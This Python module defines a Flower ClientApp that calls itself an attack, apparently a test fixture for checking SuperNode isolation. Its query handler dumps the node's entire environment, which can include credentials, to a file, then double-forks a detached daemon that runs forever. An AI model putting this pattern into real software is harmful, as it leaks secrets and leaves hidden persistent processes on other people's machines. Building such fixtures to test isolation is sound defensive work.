"""An attack: a ClientApp that keeps its SuperNode's variables, and leaves a daemon behind.

It is told a folder by the ServerApp, which is told it by the run's settings.
"""

import json
import os
import time
from pathlib import Path

from flwr.app import Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def query(message: Message, context: Context) -> Message:
    """Note all variables, and fork twice."""
    folder = Path(str(context.run_config["folder"]))
    (folder / "environment.json").write_text(json.dumps(dict(os.environ)))
    if not os.fork():
        os.setsid()
        if not os.fork():
            while True:
                with (folder / "beats").open("a") as file:
                    file.write("beat\n")
                time.sleep(0.1)
        os._exit(0)
    return Message(RecordDict(), reply_to=message)
